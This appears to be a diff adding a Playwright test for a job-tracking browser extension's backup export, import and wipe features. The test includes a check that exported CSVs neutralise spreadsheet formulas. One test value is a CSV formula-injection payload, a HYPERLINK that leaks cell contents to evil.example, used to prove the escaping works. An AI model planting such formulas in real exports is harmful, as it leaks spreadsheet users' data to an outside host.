@@ -1,0 +1,252 @@
+import { execFileSync, spawnSync } from 'node:child_process';
+import { mkdtempSync, readFileSync, writeFileSync } from 'node:fs';
+import { tmpdir } from 'node:os';
+import { join } from 'node:path';
+import Papa from 'papaparse';
+import type { Page } from '@playwright/test';
+import { expect, openExtensionPage, panelFrame, test } from './harness';
+import { PAGES, servedPages } from './pages';
+
+const FORMULA_NOTE = '=1+1';
+const LINK_NOTE = '=HYPERLINK("https://evil.example/?leak="&A1,"click me")';
+
+/** Every record in the extension's database, read with plain IndexedDB from an extension page. */
+function readDatabase(page: Page) {
+  return page.evaluate(async () => {
+    const db = await new Promise<IDBDatabase>((resolve, reject) => {
+      const open = indexedDB.open('tasklens');
+      open.onsuccess = () => resolve(open.result);
+      open.onerror = () => reject(open.error);
+    });
+    const all = (store: string) =>
+      new Promise<unknown[]>((resolve, reject) => {
+        const request = db.transaction(store).objectStore(store).getAll();
+        request.onsuccess = () => resolve(request.result);
+        request.onerror = () => reject(request.error);
+      });
+    const byId = (list: unknown[]) =>
+      [...list].sort((a, b) => String((a as { id: string }).id).localeCompare((b as { id: string }).id));
+    const result = {
+      platforms: byId(await all('platforms')),
+      applications: byId(await all('applications')),
+      events: byId(await all('events')),
+    };
+    db.close();
+    return JSON.parse(JSON.stringify(result)) as Record<
+      'platforms' | 'applications' | 'events',
+      { id: string }[]
+    >;
+  });
+}
+
+async function saveFromPanel(page: Page, extensionId: string, url: string, stage: string, notes: string) {
+  await page.goto(url);
+  const panel = await panelFrame(page, extensionId);
+  const collapsed = panel.getByTestId('collapsed-tab');
+  await panel.locator('main[aria-label="TaskLens"], [data-testid="collapsed-tab"]').first().waitFor();
+  if (await collapsed.isVisible()) await collapsed.click();
+  await panel.getByLabel('Stage').selectOption(stage);
+  await panel.getByLabel('Notes').fill(notes);
+  await panel.getByRole('button', { name: 'Save to my log' }).click();
+  await expect(panel.getByTestId('saved-status')).toBeVisible();
+}
+
+function menu(dashboard: Page) {
+  return dashboard.getByTestId('transfer-controls');
+}
+
+async function exportFile(dashboard: Page, label: string, dir: string) {
+  await menu(dashboard)
+    .getByRole('button', { name: /Your data/ })
+    .click();
+  const [download] = await Promise.all([
+    dashboard.waitForEvent('download'),
+    menu(dashboard).getByRole('button', { name: label }).click(),
+  ]);
+  const path = join(dir, download.suggestedFilename());
+  await download.saveAs(path);
+  return { path, name: download.suggestedFilename() };
+}
+
+async function importFiles(dashboard: Page, paths: string[]) {
+  await menu(dashboard)
+    .getByRole('button', { name: /Your data/ })
+    .click();
+  await menu(dashboard)
+    .getByRole('button', { name: /Import/ })
+    .click();
+  const dialog = dashboard.getByTestId('import-dialog');
+  await dialog.getByLabel('Files to import').setInputFiles(paths);
+  return dialog;
+}
+
+test('export, delete everything, import: the log comes back exactly; broken files change nothing', async ({
+  context,
+  serve,
+  extensionId,
+}) => {
+  const dir = mkdtempSync(join(tmpdir(), 'tasklens-transfer-'));
+  await serve(servedPages('outlier', 'linkedinJob'));
+  const page = await context.newPage();
+  await saveFromPanel(page, extensionId, PAGES.outlier.url, 'screening', FORMULA_NOTE);
+  await saveFromPanel(page, extensionId, PAGES.linkedinJob.url, 'applied', LINK_NOTE);
+
+  const dashboard = await openExtensionPage(context, extensionId, 'dashboard.html');
+  await expect(menu(dashboard)).toBeVisible();
+  const before = await readDatabase(dashboard);
+  expect(before.applications).toHaveLength(2);
+
+  const today = new Date();
+  const stamp = `${today.getFullYear()}-${String(today.getMonth() + 1).padStart(2, '0')}-${String(today.getDate()).padStart(2, '0')}`;
+  const backup = await exportFile(dashboard, 'Full backup (JSON)', dir);
+  expect(backup.name).toBe(`tasklens-backup-${stamp}.json`);
+  const applicationsCsv = await exportFile(dashboard, 'Applications (CSV)', dir);
+  expect(applicationsCsv.name).toBe(`tasklens-applications-${stamp}.csv`);
+  const eventsCsv = await exportFile(dashboard, 'History of changes (CSV)', dir);
+  expect(eventsCsv.name).toBe(`tasklens-events-${stamp}.csv`);
+  expect(readFileSync(applicationsCsv.path).subarray(0, 3)).toEqual(Buffer.from([0xef, 0xbb, 0xbf]));
+  expect(JSON.parse(readFileSync(backup.path, 'utf8'))).toMatchObject({
+    format: 'tasklens-export',
+    schemaVersion: 2,
+  });
+
+  // The keyboard shortcut exports the backup too.
+  await dashboard.locator('body').click();
+  const [viaShortcut] = await Promise.all([
+    dashboard.waitForEvent('download'),
+    dashboard.keyboard.press('Alt+Shift+E'),
+  ]);
+  expect(viaShortcut.suggestedFilename()).toBe(backup.name);
+
+  // Delete everything, after confirming.
+  await menu(dashboard)
+    .getByRole('button', { name: /Your data/ })
+    .click();
+  await menu(dashboard).getByRole('button', { name: 'Delete everything…' }).click();
+  const wipe = dashboard.getByTestId('wipe-dialog');
+  await expect(wipe).toContainText('all 2 applications');
+  await wipe.getByRole('button', { name: 'Delete everything' }).click();
+  await expect(dashboard.getByTestId('empty-log')).toBeVisible();
+  expect((await readDatabase(dashboard)).applications).toHaveLength(0);
+
+  // A broken CSV (one bad stage) names the row and column and writes nothing.
+  const broken = readFileSync(applicationsCsv.path, 'utf8').replace(',Screening,', ',Hired,');
+  writeFileSync(join(dir, 'broken.csv'), broken);
+  let dialog = await importFiles(dashboard, [join(dir, 'broken.csv')]);
+  await expect(dialog.getByTestId('import-error')).toContainText('column "Stage": "Hired" is not a stage');
+  await expect(dialog.getByRole('button', { name: 'Import', exact: true })).toBeDisabled();
+  // Binary junk is refused too.
+  writeFileSync(join(dir, 'junk.json'), Buffer.from([0x50, 0x4b, 3, 4, 0xff, 0xfe, 0, 0, 0x80]));
+  await dialog.getByLabel('Files to import').setInputFiles(join(dir, 'junk.json'));
+  await expect(dialog.getByTestId('import-error')).toContainText('not UTF-8 text');
+  await dialog.getByRole('button', { name: 'Cancel' }).click();
+  expect((await readDatabase(dashboard)).applications).toHaveLength(0);
+
+  // Import the backup: preview first, then everything is back, record for record.
+  dialog = await importFiles(dashboard, [backup.path]);
+  await expect(dialog.getByTestId('preview-applications').locator('[data-column="added"]')).toHaveText('2');
+  await dialog.getByRole('button', { name: 'Import', exact: true }).click();
+  await expect(menu(dashboard).getByTestId('transfer-status')).toContainText('Imported');
+  await expect(dashboard.getByTestId('applications')).toContainText('Biology Expert – AI Training');
+  await expect(dashboard.getByTestId('applications')).toContainText('AI Trainer – Spanish Writer');
+  expect(await readDatabase(dashboard)).toEqual(before);
+
+  // A broken file on a full log leaves it as it was; the same backup again changes nothing.
+  dialog = await importFiles(dashboard, [join(dir, 'broken.csv')]);
+  await expect(dialog.getByTestId('import-error')).toBeVisible();
+  await dialog.getByLabel('Files to import').setInputFiles(backup.path);
+  await expect(dialog.getByRole('button', { name: 'Nothing to import' })).toBeDisabled();
+  await dialog.getByRole('button', { name: 'Cancel' }).click();
+  expect(await readDatabase(dashboard)).toEqual(before);
+
+  // The two CSV files together restore the applications and their history.
+  await menu(dashboard)
+    .getByRole('button', { name: /Your data/ })
+    .click();
+  await menu(dashboard).getByRole('button', { name: 'Delete everything…' }).click();
+  await dashboard.getByTestId('wipe-dialog').getByRole('button', { name: 'Delete everything' }).click();
+  await expect(dashboard.getByTestId('empty-log')).toBeVisible();
+  dialog = await importFiles(dashboard, [applicationsCsv.path, eventsCsv.path]);
+  await expect(dialog.getByTestId('preview-events').locator('[data-column="added"]')).toHaveText(
+    String(before.events.length),
+  );
+  await dialog.getByRole('button', { name: 'Import', exact: true }).click();
+  await expect(menu(dashboard).getByTestId('transfer-status')).toContainText('Imported');
+  const fromCsv = await readDatabase(dashboard);
+  expect(fromCsv.applications).toEqual(before.applications);
+  expect(fromCsv.events).toEqual(before.events);
+
+  // LibreOffice opens the CSV with the right columns and evaluates no formula.
+  const soffice = spawnSync('soffice', ['--version'], { encoding: 'utf8' });
+  if (soffice.error) {
+    test.info().annotations.push({
+      type: 'skipped',
+      description: 'LibreOffice (soffice) is not installed; the spreadsheet check was skipped.',
+    });
+    console.warn('LibreOffice (soffice) is not installed: skipping the spreadsheet check.');
+    return;
+  }
+  const out = join(dir, 'calc');
+  const profile = `file://${join(dir, 'lo-profile')}`;
+  // CSV → spreadsheet → CSV, as a person opening and re-saving it would; the filter reads UTF-8 with commas.
+  execFileSync(
+    'soffice',
+    [
+      `-env:UserInstallation=${profile}`,
+      '--headless',
+      '--infilter=CSV:44,34,76,1',
+      '--convert-to',
+      'xlsx',
+      '--outdir',
+      out,
+      applicationsCsv.path,
+    ],
+    { stdio: 'pipe', timeout: 60_000 },
+  );
+  const xlsx = join(out, applicationsCsv.name.replace(/\.csv$/, '.xlsx'));
+  execFileSync(
+    'soffice',
+    [
+      `-env:UserInstallation=${profile}`,
+      '--headless',
+      '--convert-to',
+      'csv:Text - txt - csv (StarCalc):44,34,76,1',
+      '--outdir',
+      join(out, 'back'),
+      xlsx,
+    ],
+    { stdio: 'pipe', timeout: 60_000 },
+  );
+  // Control: the same round trip evaluates formulas that were not neutralised, so the check means something.
+  const control = join(dir, 'control.csv');
+  writeFileSync(control, `\uFEFFNotes\r\n"${FORMULA_NOTE}"\r\n`);
+  execFileSync(
+    'soffice',
+    [
+      `-env:UserInstallation=${profile}`,
+      '--headless',
+      '--infilter=CSV:44,34,76,1',
+      '--convert-to',
+      'csv:Text - txt - csv (StarCalc):44,34,76,1',
+      '--outdir',
+      join(out, 'control'),
+      control,
+    ],
+    { stdio: 'pipe', timeout: 60_000 },
+  );
+  expect(readFileSync(join(out, 'control', 'control.csv'), 'utf8')).toContain('\n2');
+
+  const resaved = readFileSync(join(out, 'back', applicationsCsv.name), 'utf8').replace(/^\uFEFF/, '');
+  const rows = Papa.parse<string[]>(resaved, { skipEmptyLines: true }).data;
+  expect(rows[0].slice(0, 5)).toEqual(['Platform', 'Title', 'Company', 'URL', 'Stage']);
+  expect(rows[0]).toEqual(expect.arrayContaining(['Notes', 'Listing key', 'Listing snapshot (JSON)']));
+  const notes = rows.slice(1).map((r) => r[rows[0].indexOf('Notes')]);
+  // Shown as the literal text (with or without the neutralising quote), never as 2 or a link.
+  expect(notes.map((n) => n.replace(/^'/, '')).sort()).toEqual([FORMULA_NOTE, LINK_NOTE].sort());
+  expect(notes).not.toContain('2');
+  const titles = rows
+    .slice(1)
+    .map((r) => r[1])
+    .sort();
+  expect(titles).toEqual(['AI Trainer – Spanish Writer', 'Biology Expert – AI Training']);
+});
